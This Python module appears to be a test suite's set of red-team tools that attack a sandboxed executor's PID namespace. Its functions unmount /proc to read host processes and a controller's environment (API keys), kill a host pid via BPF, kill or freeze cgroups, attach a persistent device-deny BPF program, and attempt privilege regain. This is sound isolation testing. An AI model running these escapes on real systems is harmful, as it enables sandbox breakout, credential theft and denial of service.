"""Tools that attack the default profile's PID namespace (``executor.workers.pidns``) on purpose.

The template is PID 1 of a PID namespace of its own and mounts that namespace's ``/proc`` in a mount
namespace of its own, which its workers share. Each tool here tries one way out as a hostile tool
author would: taking the ``/proc`` mount away (or faking it) to see and read the host's processes or
to blind the template's sweeps; reaching the supervisor, the template or the machine by a kernel
path that does not go through pid numbers (``reboot(2)``, BPF, control groups, sysctls); naming the
supervisor by pid in ways other than ``kill``; or regaining privileges in the user namespace a
non-root executor's template lives in. Each returns what it saw or did, so the test
judges from the host whether the executor held.

Every destructive step refuses to run unless the tool is inside a PID namespace that is not the
host's (``_inside_a_namespace``) and, where it writes a control group, unless that group is the one
the test made (its name carries ``TEST_GROUP_MARK``).
"""

from __future__ import annotations

import ast
import contextlib
import ctypes
import errno
import os
import signal
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

from executor import tool

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
MNT_DETACH = 2
MS_BIND = 0x1000
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PROC_PID_INIT_INO = 0xEFFFFFFC  # the inode of the initial PID namespace (include/linux/proc_ns.h)
TEST_GROUP_MARK = "pidns-redteam-"  # control groups a tool may kill or freeze carry this in their name
SYS_REBOOT, SYS_BPF = 169, 321  # x86_64
REBOOT_MAGIC1, REBOOT_MAGIC2, REBOOT_CMD_RESTART = 0xFEE1DEAD, 672274793, 0x01234567
CGROUP = "/sys/fs/cgroup"


# ------------------------------------------------------------------------------ witnesses


@tool
def echo(value: object = None) -> object:
    """Return the value given (the innocent call that follows an attack)."""
    return value


@tool
def nap(seconds: float = 2.0) -> float:
    """Sleep, then return how long (a call in flight on another worker while an attack runs)."""
    time.sleep(seconds)
    return seconds


@tool
def view() -> dict[str, Any]:
    """What this worker's ``/proc`` shows: how many processes, and whether ``/proc/self`` is this
    process as it knows itself (its namespace's ``/proc``) or by another number (the host's)."""
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    return {"count": len(pids), "self": int(os.readlink("/proc/self")), "getpid": os.getpid()}


def _inside_a_namespace(host_pidns: str) -> None:
    """Refuse to go on unless this process's PID namespace is neither the initial one nor the
    host's as the test saw it (``host_pidns``, ``pid:[N]``): the attacks below must never reach the
    host's init or the machine."""
    fd = os.open("/proc/self/ns/pid", os.O_RDONLY | os.O_CLOEXEC)
    try:
        ino = os.fstat(fd).st_ino
    finally:
        os.close(fd)
    if ino == PROC_PID_INIT_INO or f"pid:[{ino}]" == host_pidns or not host_pidns.startswith("pid:["):
        raise RuntimeError(f"refusing: this worker is in PID namespace pid:[{ino}], the host's ({host_pidns})")
    if os.getppid() != 1:
        raise RuntimeError("refusing: this worker's parent is not the init of its namespace")


# ------------------------------------------------------------------------------ the namespace's /proc


def _host_proc() -> bool:
    """Make this process's ``/proc`` the host's: unmount the namespace's ``/proc`` the template
    mounted over it (every process of the template's mount namespace sees the change). Returns
    whether ``/proc`` now names this process by another pid than its own (the host's)."""
    if int(os.readlink("/proc/self")) == os.getpid() and _libc.umount2(b"/proc", MNT_DETACH) != 0:
        e = ctypes.get_errno()
        raise OSError(e, f"umount2(/proc): {os.strerror(e)}")
    return int(os.readlink("/proc/self")) != os.getpid()


def _status(pid: int | str) -> dict[str, str]:
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            out[key] = value.strip()
    return out


def _ancestors() -> list[int]:
    """Through the host's ``/proc``: this worker's host pid, then its parent's (the template), the
    supervisor's (or the relay's) and so on up to the host's init."""
    chain = [int(os.readlink("/proc/self"))]
    while chain[-1] > 1:
        chain.append(int(_status(chain[-1])["PPid"]))
    return chain


@tool
def unmount_proc() -> dict[str, Any]:
    """Unmount the namespace's ``/proc`` and look at the host's processes through what is below:
    how many, this worker's ancestors (host pids and names) and whether a ``/proc/PID`` descriptor
    of the supervisor, now at hand, lets a signal through (signal 0: only the check)."""
    host = _host_proc()
    chain = _ancestors()
    names = []
    for pid in chain:
        with open(f"/proc/{pid}/comm") as f:
            names.append(f.read().strip())
    out: dict[str, Any] = {"host_proc": host, "count": len([p for p in os.listdir("/proc") if p.isdigit()]),
                           "ancestors": chain, "names": names}
    supervisor = chain[2] if len(chain) > 2 else 0
    if supervisor > 1:
        fd = os.open(f"/proc/{supervisor}", os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC)
        try:
            ok = _libc.syscall(424, fd, 0, None, 0)  # pidfd_send_signal(fd, 0, NULL, 0)
            out["proc_fd_signal"] = "sent" if ok == 0 else os.strerror(ctypes.get_errno())
        finally:
            os.close(fd)
    return out


@tool
def controller_environment(levels: int = 3) -> str:
    """The environment the process ``levels`` up from this worker started with (worker, template,
    supervisor, controller: 3 is the controller; 4 with a relay), read from the host's ``/proc``:
    a controller is a dumpable process of the executor's user, whose API keys are there."""
    _host_proc()
    target = _ancestors()[levels]
    with open(f"/proc/{target}/environ", "rb") as f:
        return f.read().replace(b"\0", b"\n").decode(errors="replace")


@tool
def leave_a_process(seconds: float = 60.0, pid_file: str = "", unmount: bool = True) -> int:
    """Start a child that outlives this call: the namespace's ``/proc`` unmounted (so the worker's
    and the template's sweeps read the host's ``/proc`` and kill numbers that name nothing in the
    namespace), and the child moved out of the worker's control groups into their parents (so the
    group kill misses it). Returns the child's pid in the namespace (and writes it to ``pid_file``).
    ``unmount=False``: the control groups only."""
    if unmount:
        with contextlib.suppress(OSError):  # (refused where workers lack CAP_SYS_ADMIN: the sweep then holds)
            _host_proc()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            with open("/proc/self/cgroup") as f:
                lines = f.read().splitlines()
            for line in lines:
                _, controllers, path = line.split(":", 2)
                if not path.rsplit("/", 1)[-1].startswith("ciayn-"):
                    continue  # not one of the worker's own groups
                root = _v2_root() if controllers == "" else f"{CGROUP}/{controllers.split(',')[0]}"
                parent = os.path.dirname(path)
                with open(f"{root}{parent.rstrip('/')}/cgroup.procs", "w") as f:
                    f.write("0")
            os.write(w, b"x")
            os.close(w)
            time.sleep(seconds)
        finally:
            os._exit(0)
    os.close(w)
    os.read(r, 1)
    os.close(r)
    if pid_file:
        with open(pid_file, "w") as f:
            f.write(str(pid))
    return pid


@tool
def fake_dying_template() -> str:
    """Bind-mount a file over ``/proc/1/stat`` that says the template (PID 1) is a zombie: every
    worker forked later reads it before it starts a call, and returns without starting it."""
    with open("/proc/1/stat") as f:
        real = f.read()
    head, _, tail = real.rpartition(")")
    fields = tail.split()
    fields[0] = "Z"
    path = f"/tmp/pidns-redteam-stat-{os.getpid()}"
    with open(path, "w") as f:
        f.write(f"{head}) {' '.join(fields)}\n")
    failed = _libc.mount(path.encode(), b"/proc/1/stat", None, MS_BIND, None) != 0
    e = ctypes.get_errno()
    os.unlink(path)  # the mount holds the file
    if failed:
        raise OSError(e, f"bind mount over /proc/1/stat: {os.strerror(e)}")
    return fields[0]


# ------------------------------------------------------------------------------ not by pid numbers


@tool
def reboot_namespace(host_pidns: str) -> str:
    """``reboot(RESTART)`` inside the template's PID namespace: for a caller holding CAP_SYS_BOOT
    over it, the kernel SIGKILLs the namespace's init (the template), which no signal from inside
    may do. Refuses outside a namespace of the executor's (there it would restart the machine)."""
    _inside_a_namespace(host_pidns)
    if _libc.syscall(SYS_REBOOT, REBOOT_MAGIC1, REBOOT_MAGIC2, REBOOT_CMD_RESTART, None) != 0:
        return os.strerror(ctypes.get_errno())
    return "returned"  # not reached: the kernel ends the caller too


def _insn(code: int, dst: int = 0, src: int = 0, off: int = 0, imm: int = 0) -> bytes:
    return struct.pack("<BBhi", code, (src << 4) | dst, off, imm)


def _bpf_load(prog_type: int, prog: bytes) -> int:
    """Load a BPF program; its descriptor, or -errno."""
    insns = ctypes.create_string_buffer(prog, len(prog))
    license_ = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<IIQQ", attr, 0, prog_type, len(prog) // 8, ctypes.addressof(insns), ctypes.addressof(license_))
    fd = int(_libc.syscall(SYS_BPF, 5, attr, 128))  # BPF_PROG_LOAD
    return fd if fd >= 0 else -ctypes.get_errno()


BPF_PROG_TYPE_RAW_TRACEPOINT, BPF_PROG_TYPE_CGROUP_DEVICE = 17, 15
RETURN_0 = _insn(0xB7, dst=0, imm=0) + _insn(0x95)  # r0 = 0; exit


@tool
def bpf_kill(pid: int, hold: float = 3.0) -> str:
    """Load a BPF program on the ``sys_enter`` raw tracepoint that sends SIGKILL to the process whose
    host pid is ``pid`` (the supervisor, as ``ps`` shows it) at its next system call: BPF sees host
    pids and ``bpf_send_signal`` never resolves a pid in the caller's namespace. Returns what the
    kernel said, or that it held the program ``hold`` seconds."""
    if pid <= 1:
        raise ValueError("no pid to aim at")
    prog_fd = _bpf_load(BPF_PROG_TYPE_RAW_TRACEPOINT, b"".join([
        _insn(0x85, imm=14),  # call bpf_get_current_pid_tgid
        _insn(0x77, dst=0, imm=32),  # r0 >>= 32: the tgid (host pid)
        _insn(0x55, dst=0, off=2, imm=pid),  # if r0 != pid: skip the signal
        _insn(0xB7, dst=1, imm=signal.SIGKILL),  # r1 = SIGKILL
        _insn(0x85, imm=109),  # call bpf_send_signal
        RETURN_0,
    ]))
    if prog_fd < 0:
        return f"BPF_PROG_LOAD: {os.strerror(-prog_fd)}"
    name = ctypes.create_string_buffer(b"sys_enter")
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<QI", attr, 0, ctypes.addressof(name), prog_fd)
    link = _libc.syscall(SYS_BPF, 17, attr, 128)  # BPF_RAW_TRACEPOINT_OPEN
    if link < 0:
        err = os.strerror(ctypes.get_errno())
        os.close(prog_fd)
        return f"BPF_RAW_TRACEPOINT_OPEN: {err}"
    try:
        time.sleep(hold)
    finally:
        os.close(link)
        os.close(prog_fd)
    return "held"


def _own_group(controller: str) -> str:
    """This worker's group path in ``controller``'s v1 hierarchy, or in the v2 one for ""."""
    with open("/proc/self/cgroup") as f:
        for line in f:
            _, controllers, path = line.rstrip("\n").split(":", 2)
            if controller in (controllers.split(",") if controllers else [""]):
                return path
    raise RuntimeError(f"no {controller or 'v2'} group")


def _v2_root() -> str:
    return f"{CGROUP}/unified" if os.path.exists(f"{CGROUP}/unified/cgroup.procs") else CGROUP


def _executor_group() -> str:
    """The v2 group above this worker's own (``ciayn-...``): the executor's, where it was started
    (a service's, a CI job's), holding the supervisor, perhaps the controller, and all below.
    Only a group the test made (``TEST_GROUP_MARK``)."""
    parent = os.path.dirname(_own_group(""))
    if TEST_GROUP_MARK not in parent:
        raise RuntimeError(f"refusing: {parent} is not the test's group")
    return f"{_v2_root()}{parent}"


@tool
def kill_executor_group() -> str:
    """Write ``cgroup.kill`` of the executor's v2 group: SIGKILL to every process in it, from the
    kernel, whatever PID namespace they are in."""
    with open(f"{_executor_group()}/cgroup.kill", "w") as f:
        f.write("1")
    time.sleep(5)
    return "survived"


@tool
def freeze_executor_group(version: int = 2) -> str:
    """Freeze the executor's group: v2 ``cgroup.freeze`` of the group above this worker's own, or
    (``version=1``) the v1 freezer group this worker is in, which is the executor's own (it makes
    no freezer groups). The supervisor stops with it. Only a group the test made."""
    if version == 2:
        path, state = f"{_executor_group()}/cgroup.freeze", "1"
    else:
        group = _own_group("freezer")
        if TEST_GROUP_MARK not in group:
            raise RuntimeError(f"refusing: {group} is not the test's group")
        path, state = f"{CGROUP}/freezer{group}/freezer.state", "FROZEN"
    with open(path, "w") as f:
        f.write(state)
    time.sleep(1)
    return "thawed"


@tool
def deny_devices_to_executor_group() -> str:
    """Attach a BPF device program that refuses every device (``/dev/null`` included) to the
    executor's v2 group (``BPF_PROG_ATTACH``, not tied to any descriptor): it stays after this
    worker, the template and the executor are gone, and binds every process later started in that
    group (the executor restarted by its service). Only a group the test made."""
    group = os.open(_executor_group(), os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        prog_fd = _bpf_load(BPF_PROG_TYPE_CGROUP_DEVICE, RETURN_0)  # 0: deny
        if prog_fd < 0:
            return f"BPF_PROG_LOAD: {os.strerror(-prog_fd)}"
        try:
            attr = ctypes.create_string_buffer(128)
            struct.pack_into("<IIII", attr, 0, group, prog_fd, 6, 2)  # BPF_CGROUP_DEVICE, BPF_F_ALLOW_MULTI
            if _libc.syscall(SYS_BPF, 8, attr, 128) != 0:  # BPF_PROG_ATTACH
                return f"BPF_PROG_ATTACH: {os.strerror(ctypes.get_errno())}"
        finally:
            os.close(prog_fd)
    finally:
        os.close(group)
    return "attached"


@tool
def open_core_pattern() -> str:
    """Open ``/proc/sys/kernel/core_pattern`` for writing, and close it without writing a byte.
    Writing ``|/some/program`` there makes the kernel run that program as the host's root, outside
    every namespace, at the next crash of any process: whoever may open it owns the machine."""
    try:
        fd = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY | os.O_CLOEXEC)
    except OSError as e:
        return f"refused: {errno.errorcode.get(e.errno or 0, e.strerror)}"
    os.close(fd)
    return "opened for writing"


@tool
def signal_by_number(pid: int) -> dict[str, str]:
    """Every way but ``kill`` that names a process by its pid and may reach it: a socket owned by it
    (``F_SETOWN``: SIGIO when the socket is ready) or by its process group, its priority and CPU
    affinity, its process group and session. ``pid``: the supervisor, as the host sees it."""
    import fcntl
    import socket

    a, b = socket.socketpair()
    ways: dict[str, Callable[[], object]] = {"F_SETOWN": lambda: fcntl.fcntl(a, fcntl.F_SETOWN, pid),
            "F_SETOWN group": lambda: fcntl.fcntl(a, fcntl.F_SETOWN, -pid),
            "setpriority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            "sched_setaffinity": lambda: os.sched_setaffinity(pid, {0}),
            "getpgid": lambda: os.getpgid(pid), "getsid": lambda: os.getsid(pid)}
    out = _try_each(ways)
    a.close()
    b.close()
    return out


def _try_each(ways: dict[str, Callable[[], object]]) -> dict[str, str]:
    """Each way, and what the kernel answered it: "reached", or the error's name."""
    out: dict[str, str] = {}
    for name, way in ways.items():
        try:
            way()
            out[name] = "reached"
        except OSError as e:
            out[name] = errno.errorcode.get(e.errno or 0, str(e.errno))
    return out


def _first_fd_of_template(how: Callable[[str], object]) -> object:
    for name in os.listdir("/proc/1/fd"):  # listing the numbers is allowed; each link is not
        how(f"/proc/1/fd/{name}")
    return None


@tool
def template_handles() -> dict[str, str]:
    """Reach into the template (PID 1) for what it holds: its descriptors (its channel to the
    supervisor, its wake-up pipe) through ``/proc/1/fd`` (read the links, open them), its working
    and root directories, executable and memory, and a copy of its descriptor 3 through a pidfd
    (``pidfd_getfd``). Each says what the kernel answered."""
    ways: dict[str, Callable[[], object]] = {
        "fd_links": lambda: _first_fd_of_template(os.readlink),
        "fd_open": lambda: _first_fd_of_template(lambda p: os.close(os.open(p, os.O_RDONLY | os.O_NONBLOCK))),
        "cwd": lambda: os.readlink("/proc/1/cwd"), "root": lambda: os.listdir("/proc/1/root/"),
        "exe": lambda: os.readlink("/proc/1/exe"), "mem": lambda: os.close(os.open("/proc/1/mem", os.O_RDONLY))}
    out = _try_each(ways)
    pidfd = os.pidfd_open(1)
    try:
        fd = _libc.syscall(438, pidfd, 3, 0)  # pidfd_getfd
        out["pidfd_getfd"] = "reached" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
        if fd >= 0:
            os.close(fd)
    finally:
        os.close(pidfd)
    return out


# ------------------------------------------------------------------------------ the user namespace


def _errno_of(call: Any) -> str:
    if call() == 0:
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


@tool
def regain_privileges(host_pidns: str) -> dict[str, Any]:
    """In a template's user namespace (an executor without CAP_SYS_ADMIN): every way this worker
    knows to get rights over its template's mount or PID namespace back. Unmount or mount over
    ``/proc``; ``reboot``; load BPF; exec a program as uid 0 (which regains every capability left
    in the bounding set); and, in a user namespace of its own (full capabilities there) with a
    mount namespace of its own, unmount ``/proc`` (locked) or mount a ``/proc``."""
    _inside_a_namespace(host_pidns)
    out: dict[str, Any] = {}
    out["umount"] = _errno_of(lambda: _libc.umount2(b"/proc", MNT_DETACH))
    out["mount_tmpfs"] = _errno_of(lambda: _libc.mount(b"none", b"/proc", b"tmpfs", 0, None))
    out["mount_proc"] = _errno_of(lambda: _libc.mount(b"proc", b"/tmp", b"proc", 0, None))
    out["reboot"] = _errno_of(lambda: _libc.syscall(SYS_REBOOT, REBOOT_MAGIC1, REBOOT_MAGIC2,
                                                    REBOOT_CMD_RESTART, None))
    loaded = _bpf_load(BPF_PROG_TYPE_RAW_TRACEPOINT, RETURN_0)  # loaded, never attached
    if loaded >= 0:
        os.close(loaded)
    out["bpf"] = "loaded" if loaded >= 0 else f"BPF_PROG_LOAD: {os.strerror(-loaded)}"
    capeff = subprocess.run([sys.executable, "-c", "print(open('/proc/self/status').read())"],
                            capture_output=True, text=True, timeout=30).stdout
    out["exec_capeff"] = next((line.split()[1] for line in capeff.splitlines() if line.startswith("CapEff")), "?")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            os.close(r)
            nested: dict[str, str] = {"unshare": _errno_of(lambda: _libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))}
            nested["umount"] = _errno_of(lambda: _libc.umount2(b"/proc", MNT_DETACH))
            nested["mount_proc"] = _errno_of(lambda: _libc.mount(b"proc", b"/tmp", b"proc", 0, None))
            nested["still_ns_proc"] = str(int(os.readlink("/proc/self")) == os.getpid())
            os.write(w, repr(nested).encode())
        except BaseException:
            code = 1
        finally:
            os._exit(code)
    os.close(w)
    with os.fdopen(r) as f:
        out["nested"] = ast.literal_eval(f.read() or "{}")
    os.waitpid(pid, 0)
    return out

